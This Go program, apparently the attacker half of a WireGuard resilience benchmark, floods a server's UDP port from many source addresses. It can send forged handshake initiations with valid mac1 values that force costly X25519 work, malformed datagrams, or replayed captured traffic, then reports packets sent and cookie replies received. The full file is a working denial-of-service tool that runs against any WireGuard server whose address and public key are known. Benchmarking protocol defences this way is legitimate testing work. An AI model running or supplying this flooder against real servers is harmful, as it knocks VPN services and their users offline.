// wgflood: the attacker of bench/attack. It floods a WireGuard server's UDP port from many source addresses
// with one of three kinds of traffic and prints what it achieved as one JSON line on stdout:
//
//	init     handshake initiations with a valid mac1 (the attacker knows only the server's public key; the
//	         rest of the message is random), fresh for every packet, at a fixed rate (-rate) or as fast as
//	         possible (-rate 0)
//	garbage  a pool of malformed datagrams: random bytes, unknown types, truncated and oversized messages,
//	         initiations/responses with a wrong mac1, cookie replies and data messages with random receiver
//	         indexes
//	replay   WireGuard messages captured from a real client (a pcap file of its UDP datagrams to the
//	         server): handshake messages and data messages alternate
//
// Packets leave in batches (sendmmsg), each batch from the next of the -src-count source addresses
// (-src-base and up, which must exist on an interface of this namespace). Every run is bounded by
// -duration and -max-packets, and stops cleanly on SIGTERM/SIGINT (the summary is printed then too).
package main

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
	"golang.org/x/crypto/blake2s"
	"golang.org/x/net/ipv4"
)

const (
	typeInitiation  = 1
	typeResponse    = 2
	typeCookieReply = 3
	typeData        = 4
	sizeInitiation  = 148
	sizeResponse    = 92
	sizeCookieReply = 64
	sizeDataMin     = 32
	maxDatagram     = 1500
)

type summary struct {
	Mode           string  `json:"mode"`
	Sent           uint64  `json:"sent"`
	SendErrors     uint64  `json:"send_errors"`
	Seconds        float64 `json:"seconds"`
	PPS            float64 `json:"pps"`
	TargetPPS      int     `json:"target_pps"`
	Sources        int     `json:"sources"`
	Replies        uint64  `json:"replies_received"`
	CookieReplies  uint64  `json:"cookie_replies_received"`
	PoolSize       int     `json:"pool_size,omitempty"`
	PoolHandshakes int     `json:"pool_handshake_messages,omitempty"`
	PoolData       int     `json:"pool_data_messages,omitempty"`
	MeanBytes      float64 `json:"mean_datagram_bytes"`
	FirstError     string  `json:"first_error,omitempty"`
}

func main() {
	mode := flag.String("mode", "", "init | garbage | replay")
	dst := flag.String("dst", "", "server address:port")
	pubkey := flag.String("pubkey", "", "server public key (base64), for -mode init")
	pcapFile := flag.String("pcap", "", "capture of a client's datagrams to the server, for -mode replay")
	srcBase := flag.String("src-base", "", "first source address (IPv4)")
	srcCount := flag.Int("src-count", 50, "number of source addresses (consecutive from -src-base)")
	rate := flag.Int("rate", 0, "packets per second (0 = as fast as possible)")
	duration := flag.Duration("duration", 10*time.Second, "stop after this long")
	maxPackets := flag.Uint64("max-packets", 100_000_000, "stop after this many packets")
	batch := flag.Int("batch", 64, "datagrams per sendmmsg")
	seed := flag.Uint64("seed", uint64(time.Now().UnixNano()), "random seed")
	flag.Parse()

	if err := run(*mode, *dst, *pubkey, *pcapFile, *srcBase, *srcCount, *rate, *duration, *maxPackets, *batch, *seed); err != nil {
		fmt.Fprintln(os.Stderr, "wgflood:", err)
		os.Exit(2)
	}
}

// source generates the next datagram into buf and returns its length.
type source interface {
	next(buf []byte) int
}

func run(mode, dst, pubkey, pcapFile, srcBase string, srcCount, rate int, duration time.Duration, maxPackets uint64, batch int, seed uint64) error {
	if dst == "" || srcBase == "" {
		return errors.New("-dst and -src-base are required")
	}
	if srcCount < 1 || srcCount > 1000 || batch < 1 || batch > 1024 || rate < 0 || duration <= 0 || duration > time.Hour {
		return errors.New("bad -src-count (1..1000), -batch (1..1024), -rate (>= 0) or -duration (0..1h)")
	}
	to, err := net.ResolveUDPAddr("udp4", dst)
	if err != nil {
		return fmt.Errorf("-dst: %w", err)
	}
	rng := newRand(seed)
	sum := summary{Mode: mode, TargetPPS: rate, Sources: srcCount}
	var src source
	switch mode {
	case "init":
		key, err := base64.StdEncoding.DecodeString(pubkey)
		if err != nil || len(key) != 32 {
			return errors.New("-pubkey must be a base64 X25519 public key")
		}
		p := newInitiationPool(key, seed, 65536)
		sum.PoolSize = len(p.pool)
		src = p
	case "garbage":
		p := newGarbage(rng, 16384)
		sum.PoolSize = len(p.pool)
		src = p
	case "replay":
		p, hs, data, err := newReplay(pcapFile, to.Port)
		if err != nil {
			return err
		}
		sum.PoolSize, sum.PoolHandshakes, sum.PoolData = hs+data, hs, data
		src = p
	default:
		return errors.New("-mode must be init, garbage or replay")
	}

	base, err := netip.ParseAddr(srcBase)
	if err != nil || !base.Is4() {
		return fmt.Errorf("-src-base: not an IPv4 address: %q", srcBase)
	}
	conns := make([]*ipv4.PacketConn, 0, srcCount)
	var replies, cookies atomic.Uint64
	addr := base
	for i := 0; i < srcCount; i++ {
		c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: addr.AsSlice()})
		if err != nil {
			return fmt.Errorf("bind %s: %w", addr, err)
		}
		defer c.Close()
		_ = c.SetWriteBuffer(1 << 20)
		pc := ipv4.NewPacketConn(c)
		go drain(pc, &replies, &cookies)
		conns = append(conns, pc)
		addr = addr.Next()
	}

	msgs := make([]ipv4.Message, batch)
	bufs := make([][]byte, batch)
	for i := range msgs {
		bufs[i] = make([]byte, maxDatagram)
		msgs[i].Buffers = [][]byte{nil}
		msgs[i].Addr = to
	}

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, duration)
	defer cancel()

	var sent, errs, bytes uint64
	start := time.Now()
	for k := 0; ctx.Err() == nil && sent < maxPackets; k++ {
		n := int(min(uint64(batch), maxPackets-sent))
		if rate > 0 {
			// pace on an absolute schedule so that sleeping late is made up by the next batches
			due := start.Add(time.Duration(float64(sent) / float64(rate) * float64(time.Second)))
			if d := time.Until(due); d > 0 {
				time.Sleep(d)
			}
			if n > rate/100+1 {
				n = rate/100 + 1 // at least 100 batches per second keeps low rates smooth
			}
		}
		for i := 0; i < n; i++ {
			l := src.next(bufs[i])
			msgs[i].Buffers[0] = bufs[i][:l]
			bytes += uint64(l)
		}
		c := conns[k%len(conns)]
		w, err := c.WriteBatch(msgs[:n], 0)
		if w > 0 {
			sent += uint64(w)
		}
		if err != nil {
			errs += uint64(n - max(w, 0))
			if sum.FirstError == "" {
				sum.FirstError = err.Error()
			}
		}
	}
	elapsed := time.Since(start).Seconds()
	sum.Sent, sum.SendErrors, sum.Seconds = sent, errs, elapsed
	sum.PPS = float64(sent) / elapsed
	sum.Replies, sum.CookieReplies = replies.Load(), cookies.Load()
	if sent+errs > 0 {
		sum.MeanBytes = float64(bytes) / float64(sent+errs)
	}
	return json.NewEncoder(os.Stdout).Encode(sum)
}

// drain reads what the server answers (cookie replies under load) so that it is counted, not queued.
func drain(c *ipv4.PacketConn, replies, cookies *atomic.Uint64) {
	msgs := make([]ipv4.Message, 64)
	for i := range msgs {
		msgs[i].Buffers = [][]byte{make([]byte, 256)}
	}
	for {
		n, err := c.ReadBatch(msgs, 0)
		if err != nil {
			return
		}
		replies.Add(uint64(n))
		for _, m := range msgs[:n] {
			if m.N == sizeCookieReply && m.Buffers[0][0] == typeCookieReply {
				cookies.Add(1)
			}
		}
	}
}

func newRand(seed uint64) *rand.Rand { return rand.New(rand.NewChaCha8(seedBytes(seed))) }

func seedBytes(seed uint64) (s [32]byte) {
	binary.LittleEndian.PutUint64(s[:], seed)
	binary.LittleEndian.PutUint64(s[8:], seed^0x9e3779b97f4a7c15)
	return s
}

// ---------------------------------------------------------------- valid-mac1 initiations

// initiations builds initiations: random sender index, ephemeral key, encrypted static and timestamp;
// mac1 = BLAKE2s-128 keyed with BLAKE2s-256("mac1----" || server public key) over the first 116 bytes;
// mac2 zero (no cookie). The server has to do an X25519 before it can reject one.
type initiations struct {
	mac1Key []byte
	rng     *rand.ChaCha8
}

func newInitiations(serverPub []byte, seed uint64) *initiations {
	h := blake2s.Sum256(append([]byte("mac1----"), serverPub...))
	return &initiations{mac1Key: h[:], rng: rand.NewChaCha8(seedBytes(seed ^ 1))}
}

func (g *initiations) next(buf []byte) int {
	m := buf[:sizeInitiation]
	_, _ = g.rng.Read(m[4:116])
	m[0], m[1], m[2], m[3] = typeInitiation, 0, 0, 0
	copy(m[116:132], g.mac1(m[:116]))
	clear(m[132:148])
	return sizeInitiation
}

// newInitiationPool builds n different initiations up front, so that the attacker's core spends its time
// sending (the server cannot tell: it keeps no memory of initiations that failed to authenticate).
func newInitiationPool(serverPub []byte, seed uint64, n int) *pool {
	g := newInitiations(serverPub, seed)
	p := &pool{}
	buf := make([]byte, maxDatagram)
	for i := 0; i < n; i++ {
		l := g.next(buf)
		p.pool = append(p.pool, append([]byte(nil), buf[:l]...))
	}
	return p
}

func (g *initiations) mac1(covered []byte) []byte {
	mac, _ := blake2s.New128(g.mac1Key)
	mac.Write(covered)
	return mac.Sum(nil)
}

// ---------------------------------------------------------------- garbage

type pool struct {
	pool [][]byte
	i    int
}

func (p *pool) next(buf []byte) int {
	m := p.pool[p.i]
	p.i = (p.i + 1) % len(p.pool)
	return copy(buf, m)
}

func newGarbage(rng *rand.Rand, n int) *pool {
	p := &pool{}
	for i := 0; i < n; i++ {
		var m []byte
		switch i % 9 {
		case 0: // random bytes of a random size
			m = randomBytes(rng, 1+rng.IntN(maxDatagram))
		case 1: // an unknown message type
			m = randomBytes(rng, 1+rng.IntN(maxDatagram))
			m[0] = byte(5 + rng.IntN(251))
		case 2: // a known type with non-zero reserved bytes
			m = randomBytes(rng, 4+rng.IntN(200))
			m[0] = byte(1 + rng.IntN(4))
			m[1] |= 1
		case 3: // truncated handshake messages
			sizes := []int{sizeInitiation, sizeResponse, sizeCookieReply}
			t := rng.IntN(3)
			m = randomBytes(rng, 1+rng.IntN(sizes[t]-1))
			m[0] = byte(t + 1)
			clearReserved(m)
		case 4: // oversized initiation
			m = randomBytes(rng, sizeInitiation+1+rng.IntN(200))
			m[0] = typeInitiation
			clearReserved(m)
		case 5: // initiation and response of the right size with a wrong mac1
			size, t := sizeInitiation, byte(typeInitiation)
			if rng.IntN(2) == 1 {
				size, t = sizeResponse, typeResponse
			}
			m = randomBytes(rng, size)
			m[0] = t
			clearReserved(m)
		case 6: // cookie reply for a random receiver index
			m = randomBytes(rng, sizeCookieReply)
			m[0] = typeCookieReply
			clearReserved(m)
		case 7, 8: // data messages with a random receiver index, counter and length (truncated ones too)
			m = randomBytes(rng, 16+rng.IntN(maxDatagram-16))
			m[0] = typeData
			clearReserved(m)
		}
		p.pool = append(p.pool, m)
	}
	return p
}

func randomBytes(rng *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return b
}

func clearReserved(m []byte) {
	for i := 1; i < 4 && i < len(m); i++ {
		m[i] = 0
	}
}

// ---------------------------------------------------------------- replay

// replay alternates a captured handshake message and a captured data message (each list in capture order,
// cyclic), so that both kinds are replayed whatever their share in the capture.
type replay struct {
	hs, data []([]byte)
	i, j, k  int
}

func (r *replay) next(buf []byte) int {
	r.k++
	if len(r.data) == 0 || (len(r.hs) > 0 && r.k%2 == 0) {
		m := r.hs[r.i]
		r.i = (r.i + 1) % len(r.hs)
		return copy(buf, m)
	}
	m := r.data[r.j]
	r.j = (r.j + 1) % len(r.data)
	return copy(buf, m)
}

func newReplay(file string, port int) (*replay, int, int, error) {
	if file == "" {
		return nil, 0, 0, errors.New("-mode replay needs -pcap FILE")
	}
	f, err := os.Open(file)
	if err != nil {
		return nil, 0, 0, err
	}
	defer f.Close()
	rd, err := pcapgo.NewReader(f)
	if err != nil {
		return nil, 0, 0, fmt.Errorf("%s: %w", file, err)
	}
	r := &replay{}
	packets := gopacket.NewPacketSource(rd, rd.LinkType())
	for pkt := range packets.Packets() {
		udp, ok := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
		if !ok || int(udp.DstPort) != port || len(udp.Payload) < 4 {
			continue
		}
		for _, seg := range splitSegments(udp.Payload) {
			m := append([]byte(nil), seg...)
			switch m[0] {
			case typeInitiation, typeResponse, typeCookieReply:
				r.hs = append(r.hs, m)
			case typeData:
				r.data = append(r.data, m)
			}
		}
		if len(r.hs)+len(r.data) >= 200_000 {
			break
		}
	}
	if len(r.hs)+len(r.data) == 0 {
		return nil, 0, 0, fmt.Errorf("%s: no WireGuard datagrams to port %d", file, port)
	}
	return r, len(r.hs), len(r.data), nil
}

// splitSegments undoes UDP segmentation offload: a client that sends with UDP_SEGMENT (wireguard-go does)
// hands the capture one datagram of many data messages of one size (the last may be shorter). The size is
// where the next message of the same receiver index with the next counter starts. Datagrams that fit
// are returned as they are; oversized ones that cannot be split are dropped.
func splitSegments(p []byte) [][]byte {
	if len(p) <= maxDatagram {
		return [][]byte{p}
	}
	if p[0] != typeData || len(p) < 2*sizeDataMin {
		return nil
	}
	counter := binary.LittleEndian.Uint64(p[8:16])
	size := 0
	for k := sizeDataMin; k <= maxDatagram && k+16 <= len(p); k++ {
		if string(p[k:k+8]) == string(p[:8]) && binary.LittleEndian.Uint64(p[k+8:k+16]) == counter+1 {
			size = k
			break
		}
	}
	if size == 0 {
		return nil
	}
	var segs [][]byte
	for off := 0; off < len(p); off += size {
		seg := p[off:min(off+size, len(p))]
		if len(seg) < sizeDataMin || string(seg[:8]) != string(p[:8]) {
			break
		}
		segs = append(segs, seg)
	}
	return segs
}
